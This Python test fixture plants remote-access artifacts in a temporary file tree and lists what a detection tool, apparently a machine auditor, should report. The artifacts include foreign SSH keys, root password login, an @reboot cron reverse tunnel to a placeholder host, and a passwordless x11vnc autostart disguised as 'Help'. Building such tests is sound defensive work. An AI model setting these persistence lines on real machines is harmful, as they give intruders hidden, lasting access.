"""Ways into a machine from elsewhere, as ssh-keygen, systemctl, dconf and nmcli leave them."""

from __future__ import annotations

import shutil
import struct
import subprocess
import tempfile
from pathlib import Path

from tests.planted.base import Fact, Tree


def _new_key(comment: str) -> tuple[str, str]:
    """A public key and its fingerprint, both as ssh-keygen gives them."""
    if shutil.which("ssh-keygen") is None:
        return "", ""
    with tempfile.TemporaryDirectory() as folder:
        place = Path(folder) / "key"
        subprocess.run(
            ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", place], check=True
        )
        shown = subprocess.run(
            ["ssh-keygen", "-lf", f"{place}.pub"], check=True, capture_output=True, text=True
        )
        return place.with_suffix(".pub").read_text(), shown.stdout.split()[1]


SAMS, SAMS_PRINT = _new_key("sam@desktop")
ROOTS, ROOTS_PRINT = _new_key("sam@laptop")
OWN, _ = _new_key("alice@tablet")
SSH_UNIT = "[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nExecStart=/usr/sbin/sshd -D\n[Install]\nWantedBy=multi-user.target\n"
GNOME = "/org/gnome/desktop/remote-desktop"

FACTS = (
    Fact(
        "access/ssh-keys",
        f"~/.ssh/authorized_keys: {SAMS_PRINT}",
        "somebody else's key opens Alice's account",
        "ssh-keygen",
    ),
    Fact(
        "access/ssh-keys",
        f"/root/.ssh/authorized_keys: {ROOTS_PRINT}",
        "a key opens root's account",
        "ssh-keygen",
    ),
    Fact("access/remote-login", "/etc/ssh/sshd_config", "root may log in with a password", "systemctl"),
    Fact("access/reverse-tunnels", "ssh: sam@203.0.113.7", "a scheduled job opens a way back in"),
    Fact("access/reverse-tunnels", "~/.ssh/config: relay", "a setting of ssh opens a way back in"),
    Fact(
        "access/screen-sharing-on",
        "GNOME desktop sharing (RDP): ~/.config/dconf/user",
        "the desktop is shared",
        "dconf",
    ),
    Fact(
        "access/screen-sharing-on",
        "x11vnc: ~/.config/autostart/help.desktop",
        "the screen, without a password, at every login",
    ),
    Fact("access/mesh-networks", "ZeroTier: 8056c2e21c000001", "a private network was joined"),
    Fact("network/vpn-clients", "WireGuard: tunnel", "a VPN of NetworkManager", "nmcli"),
    Fact("network/vpn-clients", "OpenVPN: uni", "a VPN of OpenVPN"),
    Fact("access/incoming-connections", "SSH", "somebody logged in over SSH"),
    Fact("access/incoming-connections", "a remote login", "a login in the list that `last` reads"),
    Fact("access/incoming-connections", "AnyDesk", "somebody saw the screen with AnyDesk"),
    Fact(
        "access/managed-by-software",
        "Puppet agent",
        "a server decides how the machine is set up",
        "systemctl",
    ),
)


def plant(tree: Tree) -> None:
    tree.write("~/.ssh/authorized_keys", SAMS, 0o600)
    tree.write("/root/.ssh/authorized_keys", ROOTS, 0o600)
    _ssh_server(tree, "PermitRootLogin yes\n")
    tree.write(
        "/etc/cron.d/relay",
        "@reboot alice /usr/bin/ssh -N -R 2222:localhost:22 sam@203.0.113.7\n",
        0o600,
    )
    tree.write(
        "~/.ssh/config", "Host relay\n  HostName relay.example\n  RemoteForward 2222 localhost:22\n", 0o600
    )
    if tree.has("dconf"):
        write = ["dbus-run-session", "--", "dconf", "write", f"{GNOME}/rdp/enable", "true"]
        tree.run(write)
    tree.write(
        "~/.config/autostart/help.desktop",
        "[Desktop Entry]\nType=Application\nName=Help\nExec=x11vnc -forever -nopw\n",
    )
    tree.write("/var/lib/zerotier-one/networks.d/8056c2e21c000001.conf", "")
    if tree.has("nmcli"):
        _connection(tree, "tunnel", ["type", "wireguard", "ifname", "wg0"])
    tree.write("/etc/openvpn/client/uni.conf", "client\nremote vpn.example.edu 1194\n")
    accepted = "Jan  2 03:04:05 laptop sshd[7]: Accepted publickey for alice from 203.0.113.7 port 51234 ssh2: ED25519 SHA256:x\n"
    tree.write("/var/log/auth.log", accepted, 0o640)
    login = struct.pack(
        "=hhi32s4s32s256shhiii16s20x",
        7,
        0,
        1,
        b"pts/0",
        b"ts/0",
        b"alice",
        b"198.51.100.7",
        0,
        0,
        0,
        1_767_312_000,
        0,
        b"",
    )
    tree.write("/var/log/wtmp", login)
    tree.write(
        "~/.anydesk/connection_trace.txt", "Incoming    2026-01-02, 03:04    Passwd    sam@ad    123456789\n"
    )
    _service(
        tree, "puppet", "[Service]\nExecStart=/usr/bin/puppet agent\n[Install]\nWantedBy=multi-user.target\n"
    )


def clean(tree: Tree) -> None:
    """One's own key that may run one command only, a server with Debian's settings, a job that connects out, Wi-Fi."""
    tree.write(
        "~/.ssh/authorized_keys", f'command="rrsync /home/alice/backup",restrict {OWN}' if OWN else "", 0o600
    )
    _ssh_server(tree, "")
    tree.write("/etc/cron.d/relay", "@daily alice ssh -L 8080:localhost:80 example.org true\n", 0o600)
    tree.write("~/.ssh/config", "Host nas\n  HostName nas.local\n  LocalForward 8080 localhost:80\n", 0o600)
    tree.write(
        "~/.config/autostart/help.desktop",
        "[Desktop Entry]\nType=Application\nName=Help\nExec=yelp\nHidden=true\n",
    )
    if tree.has("nmcli"):
        _connection(tree, "Home", ["type", "wifi", "ssid", "Home"])
    tree.write(
        "/etc/tinc/nets.boot",
        "## This file contains all names of the networks to be started on system startup.\n",
    )
    tree.write(
        "/var/log/auth.log",
        "Jan  2 03:04:05 laptop sudo: alice : TTY=pts/0 ; COMMAND=/usr/bin/apt update\n",
        0o640,
    )


def _ssh_server(tree: Tree, settings: str) -> None:
    tree.write("/usr/sbin/sshd", "", 0o755)
    tree.write("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nUsePAM yes\n")
    if settings:
        tree.write("/etc/ssh/sshd_config.d/extra.conf", settings)
    _service(tree, "ssh", SSH_UNIT)


def _service(tree: Tree, name: str, unit: str) -> None:
    if tree.has("systemctl"):
        tree.write(f"/lib/systemd/system/{name}.service", unit)
        tree.run(["systemctl", "--root", str(tree.root), "enable", f"{name}.service"])


def _connection(tree: Tree, name: str, how: list[str]) -> None:
    text = tree.run(["nmcli", "--offline", "connection", "add", "con-name", name, *how])
    tree.write(f"/etc/NetworkManager/system-connections/{name}.nmconnection", text, 0o600)
